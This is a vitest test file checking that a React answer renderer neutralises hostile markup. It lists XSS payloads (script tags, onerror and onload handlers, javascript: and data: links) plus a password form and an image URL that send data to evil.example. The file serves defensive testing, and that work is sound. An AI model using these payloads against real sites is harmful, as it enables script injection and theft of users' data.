import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { TurnAnswer } from "./turn-answer";

const html = (text: string) => renderToStaticMarkup(<TurnAnswer text={text} />);

test.each([
  ["a script", "<script>alert(1)</script>"],
  ["a picture with a handler", '<img src=x onerror="alert(1)">'],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["a form", '<form action="https://evil.example"><input name=password></form>'],
  ["a style", "<style>body{display:none}</style>"],
  ["an element that is not closed", "<svg onload=alert(1)//"],
  ["a script in a table", "| a |\n|---|\n| <script>alert(1)</script> |"],
])("%s in an answer is text, not an element", (_what, text) => {
  expect(html(text)).not.toMatch(/<(?:script|img|iframe|form|input|style|svg)\b/i);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](blob:https://a/b)",
  "[x](//evil.example)",
  "[x](/api/auth/signout)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
])("%j leads nowhere", (text) => {
  expect(html(text)).not.toContain("href");
});

test("a link to another site opens a tab of its own without a referrer", () => {
  expect(html("[x](https://example.org)")).toContain(
    '<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
});

test("headings begin below the page's own and skip no level", () => {
  const shown = html("### One\n\n##### Two\n\n> ###### Three\n\n### Four\n\n# Five\n\n### Six");
  expect(shown.match(/<h\d>\w+/g)).toEqual(["<h2>One", "<h3>Two", "<h4>Three", "<h2>Four", "<h2>Five", "<h3>Six"]);
});

test("a picture becomes its words, so that an answer calls no other host", () => {
  const shown = html("![the oven](https://evil.example/?q=secret) ![x](data:image/png;base64,AA)");
  expect(shown).toContain("the oven");
  expect(shown).not.toMatch(/src|evil/);
});
